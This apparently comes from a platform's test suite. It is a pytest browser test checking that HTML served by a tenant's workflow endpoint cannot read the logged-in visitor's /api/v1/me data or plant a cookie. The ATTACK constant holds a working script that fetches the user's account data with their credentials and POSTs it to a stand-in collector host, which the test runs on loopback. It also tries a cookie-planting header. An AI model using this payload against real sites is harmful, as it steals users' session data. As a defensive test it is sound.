"""In headless Chromium: a tenant's web endpoint cannot act as the platform in a logged-in user's browser.

The attack: a flow's output/web_response answers `text/html` with a script that reads `/api/v1/me` with the
visitor's cookie and sends it to a server the attacker watches, and a `Set-Cookie` planting a cookie on the
platform's host. The platform runs as `manage.py serve --role all` (the built-in runner really runs the flow).
"""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from flomation.core import models as m
from flomation.core.models import Revision, Workflow
from tests.core import factories as f
from tests.core.conftest import identity_token
from tests.launch.conftest import World, trigger_node
from tests.support.browser import chromium, needs_chromium
from tests.support.servers import serve

pytestmark = [*needs_chromium, pytest.mark.django_db(transaction=True)]
pytest.importorskip("selenium.webdriver")

ATTACK = """<!doctype html>
<html><head><title>Order status</title></head>
<body><p id="shown">Your order is on its way.</p>
<script>
fetch("/api/v1/me", {credentials: "include"}).then(r => r.text()).then(text => {
  document.title = "read:" + text.slice(0, 100);
  fetch("COLLECTOR/collect", {method: "POST", mode: "no-cors", body: text});
});
</script></body></html>"""


class Collector(ThreadingHTTPServer):
    """A loopback server standing in for the attacker's: it records every request that reaches it."""

    def __init__(self) -> None:
        self.received: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                collector.received.append(self.rfile.read(length).decode(errors="replace"))
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def collector() -> Iterator[Collector]:
    server = Collector()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[str]:
    env = {
        "FLOMATION_RUNNER_STATE_DIRECTORY": str(tmp_path / "runner"),
        "FLOMATION_RUNNER_EXECUTION_DIRECTORY": str(tmp_path / "runner" / "workspace"),
    }
    with serve("all", tmp_path=tmp_path, env=env, workers=2) as server:
        yield server.url


def deploy_web_endpoint(world: World, html: str) -> str:
    """Deploys trigger/web → output/web_response answering `html` with a Set-Cookie; returns the path."""
    response = {
        "id": "w1",
        "type": "output/web_response",
        "data": {"id": "w1", "label": "Web Response", "config": {"id": "w1", "type": 3, "inputs": [
            {"name": "body", "type": "string", "value": html},
            {"name": "status_code", "type": "integer", "value": 200},
            {"name": "content_type", "type": "string", "value": "text/html; charset=utf-8"},
            {"name": "headers", "type": "string", "value": "Set-Cookie: planted=by-the-flow; Path=/"},
        ], "outputs": []}},
    }  # fmt: skip
    flow = {
        "nodes": [trigger_node("trigger/web", {"methods": "GET", "timeout": 30000}), response],
        "edges": [{"id": "e1", "source": "t1", "target": "w1"}],
    }
    revision = Revision.objects.create(workflow=world.workflow, number=1, flow=flow)
    Workflow.objects.filter(id=world.workflow.id).update(latest_revision=1)
    world.deploy(revision=revision)
    return f"/launch/webhook/{world.trigger().public_id}"


def test_a_flows_html_cannot_read_the_api_as_the_visitor_or_set_a_cookie(platform, collector):
    world = World()
    path = deploy_web_endpoint(world, ATTACK.replace("COLLECTOR", collector.url))
    visitor = f.MembershipFactory(organisation=world.organisation, role=m.MemberRole.OWNER).account
    with chromium() as driver:
        driver.get(platform + "/healthz")
        driver.add_cookie({"name": "flomation-token", "value": identity_token(visitor), "path": "/"})

        driver.get(platform + path)
        assert driver.find_element("id", "shown").text == "Your order is on its way."
        time.sleep(3)  # time enough for the script's two requests, had it run
        title = driver.title

        driver.get(platform + "/healthz")
        cookies = {cookie["name"] for cookie in driver.get_cookies()}

    assert collector.received == [], "the flow's script read the API as the visitor"
    assert title == "Order status"
    assert "planted" not in cookies and "flomation-token" in cookies
